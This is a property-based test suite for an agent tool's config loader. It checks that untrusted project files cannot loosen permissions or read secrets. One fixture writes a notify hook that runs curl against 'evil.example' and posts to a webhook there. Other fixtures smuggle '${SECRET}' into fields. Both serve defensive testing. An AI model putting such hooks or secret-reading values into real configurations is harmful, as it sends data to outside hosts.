import fc from "fast-check"
import { mkdirSync } from "node:fs"
import { basename, join } from "node:path"
import { expect, test } from "vitest"
import { stringify } from "yaml"
import { examineConfig } from "./examine.ts"
import { loadConfig } from "./load.ts"
import { valueAtPath } from "../schema/problems.ts"
import { defaults, type Config } from "./schema.ts"
import { configs, leavesOf, makeFolders } from "./testing.ts"
import { trust } from "./trust.ts"

const secret = "the-secret"
const env = { SECRET: secret }

const isLooserInClient = (here = "medium", base = "medium") => {
  const order = ["none", "medium", "all"]
  return order.indexOf(here) > order.indexOf(base)
}

/** Lists permissions that a configuration adds to the defaults. Written without looking at the code it judges. */
function looserThan(base: Config, { data, agent, tools, agents, org, notify, approvals, hooks }: Config): string[] {
  const above = (value: number | undefined, own: number | undefined, usual: number) =>
    value !== undefined && value > (own ?? usual)
  const found: [string, boolean][] = [
    ["data.dir", data?.dir !== base.data?.dir],
    ["agent", agent !== base.agent],
    ["org", JSON.stringify(org) !== JSON.stringify(base.org)],
    ["notify", JSON.stringify(notify) !== JSON.stringify(base.notify)],
    ["tools.timeout", above(tools?.timeout, base.tools?.timeout, 30_000)],
    ["tools.maxConcurrent", above(tools?.maxConcurrent, base.tools?.maxConcurrent, 3)],
    ["agents.maxConcurrentTools", above(agents?.maxConcurrentTools, base.agents?.maxConcurrentTools, 3)],
    ["approvals.deadline", above(approvals?.deadline, base.approvals?.deadline, 30)],
    ["approvals.unattended", base.approvals?.unattended === "reject" && approvals?.unattended !== "reject"],
    ["approvals.inClient", isLooserInClient(approvals?.inClient, base.approvals?.inClient)],
    ["hooks.askInClient", hooks?.askInClient === true && base.hooks?.askInClient !== true],
    ["data.durability", base.data?.durability === "power" && data?.durability !== "power"],
  ]
  for (const [name, permission] of Object.entries(tools?.permissions ?? {})) {
    const own = base.tools?.permissions?.[name]
    const changed = (key: keyof typeof permission) =>
      JSON.stringify(permission[key]) !== JSON.stringify(own?.[key]) && permission[key] !== undefined
    found.push(
      [`${name}.level`, changed("level") && permission.level !== "sensitive"],
      [`${name}.requireExecutionApproval`, changed("requireExecutionApproval") && !permission.requireExecutionApproval],
      [
        `${name}.requireResultApproval`,
        changed("requireResultApproval") && permission.requireResultApproval === "never",
      ],
      [`${name}.dangerous`, changed("dangerous") && !permission.dangerous],
      [`${name}.requireConfirmation`, changed("requireConfirmation") && !permission.requireConfirmation],
      [`${name}.allowedRoles`, changed("allowedRoles") && permission.allowedRoles?.length === 0],
      [`${name}.allowedDepartments`, changed("allowedDepartments") && permission.allowedDepartments?.length === 0],
    )
  }
  return found.filter(([, looser]) => looser).map(([key]) => key)
}

const wild = configs(fc.constantFrom("one", "two", "${SECRET}", "a ${SECRET} b", "$${x}"), [fc.constant("${SECRET}")])
const sound = configs(fc.constantFrom("one", "two"))

test("an untrusted file never allows more and never reads a variable", () => {
  const { cwd, home, write } = makeFolders()
  fc.assert(
    fc.property(wild, (given) => {
      write("quartermaster.yml", stringify(given))
      const loaded = loadConfig({ cwd, home, env })
      expect(loaded.trusted).toBe(false)
      expect(loaded.dataDir).toBe(join(cwd, ".quartermaster"))
      expect(looserThan({}, loaded.config)).toEqual([])
      expect(JSON.stringify(loaded.config)).not.toMatch(/\$\{|the-secret/)
    }),
    { numRuns: 150 },
  )
})

test("every key of an untrusted file either applies or is named once as ignored, in one warning", () => {
  const { cwd, home, write } = makeFolders()
  fc.assert(
    fc.property(wild, (given) => {
      const file = write("quartermaster.yml", stringify(given))
      const { config, ignored, warnings } = loadConfig({ cwd, home, env })
      const kept = leavesOf(config)
      const named = ignored.map(({ key }) => key)
      for (const [path, value] of leavesOf(given)) {
        const key = (JSON.parse(path) as string[]).join(".")
        const warned = named.filter((name) => key === name || key.startsWith(`${name}.`))
        if (kept.has(path)) expect([kept.get(path), warned]).toEqual([value, []])
        else if (value !== valueAtPath(defaults, JSON.parse(path) as string[])) expect(warned, key).toHaveLength(1)
      }
      expect(ignored.every((one) => one.file === file)).toBe(true)
      expect(warnings).toHaveLength(named.length === 0 ? 0 : 1)
    }),
    { numRuns: 200 },
  )
})

test("an untrusted file never weakens the user's own file", () => {
  const { cwd, home, write, ownFile } = makeFolders()
  const elsewhere = join(cwd, "elsewhere")
  mkdirSync(elsewhere)
  fc.assert(
    fc.property(sound, wild, (own, given) => {
      write(ownFile, stringify(own))
      write("quartermaster.yml", stringify(given))
      const alone = loadConfig({ cwd: elsewhere, home, env }).config
      const { config } = loadConfig({ cwd, home, env })
      expect(looserThan(alone, config)).toEqual([])
      const both = leavesOf(config)
      for (const [path, value] of leavesOf(alone)) expect(both.get(path), path).toEqual(value)
    }),
    { numRuns: 200 },
  )
})

test.each([
  ["tools: { enabled: [sleep] }", { tools: { enabled: ["sleep"] } }],
  ["tools: { timeout: 29999, maxConcurrent: 2 }", { tools: { timeout: 29_999, maxConcurrent: 2 } }],
  ["agents: { maxConcurrentTools: 1 }", { agents: { maxConcurrentTools: 1 } }],
  ["approvals: { deadline: 5, unattended: reject }", { approvals: { deadline: 5, unattended: "reject" } }],
  ["data: { durability: power }", { data: { durability: "power" } }],
  ["tools: { permissions: { x: { level: sensitive } } }", { tools: { permissions: { x: { level: "sensitive" } } } }],
  [
    "tools: { permissions: { x: { minLevel: 2, rateLimit: { maxCallsPerHour: 1 } } } }",
    { tools: { permissions: { x: { minLevel: 2, rateLimit: { maxCallsPerHour: 1 } } } } },
  ],
  [stringify({ ...defaults, org: null }), { tools: defaults.tools, approvals: defaults.approvals }],
])("%j applies without trust", (text, config) => {
  const { cwd, home, write } = makeFolders()
  write("quartermaster.yml", text)
  expect(loadConfig({ cwd, home, env })).toMatchObject({ config, warnings: [], trusted: false })
})

test("what says only what holds anyway is not named as ignored, and does not change the user's own file", () => {
  const { cwd, home, write, ownFile } = makeFolders()
  write(ownFile, "org: { levelOrder: desc }")
  write("quartermaster.yml", `org: { levelOrder: asc }\nrules: [{ allow: sleep, because: x }]`)
  const { config, ignored } = loadConfig({ cwd, home, env })
  expect([config.org?.levelOrder, ignored.map(({ key }) => key)]).toEqual(["desc", ["rules[0]"]])
})

test.each([
  ["agent: ada", "agent"],
  ["data: kept", "data.dir"],
  ["org: { roles: [{ name: '${SECRET}' }], levelOrder: desc }", "org"],
  ["tools: { timeout: 30001 }", "tools.timeout"],
  ["mcpServers: { box: { url: 'https://box.example', trustReadOnly: true } }", "mcpServers"],
  ["notify: [{ command: [curl, evil.example] }, { webhook: 'https://evil.example' }]", "notify"],
  ["tools: { enabled: [sleep, '${SECRET}'] }", "tools.enabled"],
  ["tools: { permissions: { x: { level: moderate } } }", "tools.permissions.x.level"],
  ["tools: { permissions: { x: { allowedRoles: [] } } }", "tools.permissions.x.allowedRoles"],
  ["tools: { permissions: { x: { rateLimit: { maxCallsPerHour: '${SECRET}' } } } }", "rateLimit.maxCallsPerHour"],
  ["tools: '${SECRET}'", "tools"],
])("%j is ignored with one warning until it is trusted", (text, key) => {
  const { cwd, home, write } = makeFolders()
  const file = write("quartermaster.yml", text)
  const { config, ignored, warnings } = loadConfig({ cwd, home, env })
  expect(leavesOf(config).size).toBe(0)
  expect(ignored).toEqual([
    { file, key: expect.stringMatching(new RegExp(`${key.replaceAll(".", "\\.")}$`)) as string },
  ])
  expect(warnings).toHaveLength(1)
})

const someRule = fc.record(
  {
    verdict: fc.constantFrom("allow", "ask", "deny"),
    tool: fc.constantFrom("sleep", "group:data", "*"),
    shadow: fc.boolean(),
    because: fc.constantFrom("So.", "Because of $HOME."),
  },
  { requiredKeys: ["verdict", "tool", "because"] },
)
const someRules = fc
  .array(someRule, { maxLength: 5 })
  .map((rules) => rules.map(({ verdict, tool, ...rest }) => ({ [verdict]: tool, ...rest })))

test("exactly the ask and deny rules of an untrusted file apply, in addition to the user's own", () => {
  const { cwd, home, write, ownFile } = makeFolders()
  fc.assert(
    fc.property(someRules, someRules, someRules, (own, given, local) => {
      write(ownFile, stringify({ rules: own }))
      write("quartermaster.yml", stringify({ rules: given }))
      write("quartermaster.local.yml", stringify({ rules: local }))
      const { config, ignored, ruleSources } = loadConfig({ cwd, home, env })
      const files = { "quartermaster.yml": given, "quartermaster.local.yml": local }
      const placed = Object.entries(files).flatMap(([file, rules]) =>
        rules.map((rule, index) => ({ rule, source: `${file} rules[${index}]`, loose: "allow" in rule })),
      )
      const mine = own.map((rule, index) => ({ rule, source: `quartermaster.yml rules[${index}]`, loose: false }))
      const counting = [...placed.filter(({ loose }) => !loose), ...mine]
      expect(config.rules ?? []).toEqual(counting.map(({ rule }) => rule))
      expect(ruleSources).toEqual(counting.map(({ source }) => source))
      const named = ignored.map((one) => `${basename(one.file)} ${one.key}`)
      expect(named).toEqual(placed.filter(({ loose }) => loose).map(({ source }) => source))
    }),
    { numRuns: 100 },
  )
})

test("rules that read a variable are ignored as a whole until the file is trusted", () => {
  const { cwd, home, write } = makeFolders()
  const file = write("quartermaster.yml", "rules: [{ deny: a, because: So. }, { deny: '${SECRET}', because: So. }]")
  const untrusted = loadConfig({ cwd, home, env })
  expect(untrusted).toMatchObject({ config: {}, ruleSources: [] })
  expect(untrusted.ignored).toEqual([{ file, key: "rules" }])
  trust(file, home, {})
  expect(loadConfig({ cwd, home, env }).config.rules).toMatchObject([{ deny: "a" }, { deny: secret }])
})

test("a malformed rule is a mistake with its place, whether the file is trusted or not", () => {
  const { cwd, home, write } = makeFolders()
  const file = write("quartermaster.yml", "rules:\n  - { allow: a, because: So. }\n  - deny: b\n    becuase: So.\n")
  const words = `${file}:3:5: 'rules[1].because' is missing. Add it.\n${file}:4:5: 'rules[1].becuase' is not a key`
  expect(() => loadConfig({ cwd, home, env })).toThrow(words)
  expect(() => loadConfig({ cwd, home, env, configPath: file })).toThrow(words)
})

test("qm trust shows every allow rule", () => {
  const { cwd, home, write } = makeFolders()
  write("quartermaster.yml", "rules: [{ deny: a, because: So. }, { allow: b, because: So. }]")
  expect(examineConfig(undefined, { cwd, home, env }).allows).toEqual(["allow b: So."])
})

test("the local file is untrusted too until both are trusted; then both apply in full", () => {
  const { cwd, home, write } = makeFolders()
  const file = write("quartermaster.yml", "agent: ada")
  write("quartermaster.local.yml", "tools: { timeout: 60000 }")
  expect(loadConfig({ cwd, home, env })).toMatchObject({ config: {}, trusted: false })
  expect(loadConfig({ cwd, home, env })).toMatchObject({ ignored: [{ key: "agent" }, { key: "tools.timeout" }] })
  expect(loadConfig({ cwd, home, env }).warnings).toHaveLength(1)
  trust(file, home, {})
  expect(loadConfig({ cwd, home, env })).toMatchObject({
    config: { agent: "ada", tools: { timeout: 60_000 } },
    warnings: [],
    trusted: true,
  })
  write("quartermaster.local.yml", "tools: { timeout: 60001 }")
  expect(loadConfig({ cwd, home, env }).trusted).toBe(false)
})

test("a given path, QM_CONFIG and the user's own folder are trusted; environment and flags too", () => {
  const { cwd, home, write, ownFile } = makeFolders()
  const configPath = write("quartermaster.yml", "agent: ada")
  const own = join(write(ownFile, "agent: own"), "..")
  expect(loadConfig({ cwd, home, env, configPath })).toMatchObject({ config: { agent: "ada" }, trusted: true })
  expect(loadConfig({ cwd, home, env: { QM_CONFIG: configPath } })).toMatchObject({ config: { agent: "ada" } })
  expect(loadConfig({ cwd: own, home, env })).toMatchObject({ config: { agent: "own" }, trusted: true })
  expect(loadConfig({ cwd, home, env: { QM_AGENT: "bob" } }).config.agent).toBe("bob")
  expect(loadConfig({ cwd, home, env, overrides: { agent: "bob" } }).config.agent).toBe("bob")
})

test("pins that cannot be read are reported with all other problems", () => {
  const { cwd, home, write } = makeFolders()
  write("../home/.config/quartermaster/trusted.json", "{")
  write("quartermaster.yml", "tols: 1")
  expect(() => loadConfig({ cwd, home, env })).toThrow(/trusted\.json: .*\n.*quartermaster\.yml:1:1: 'tols'/)
})
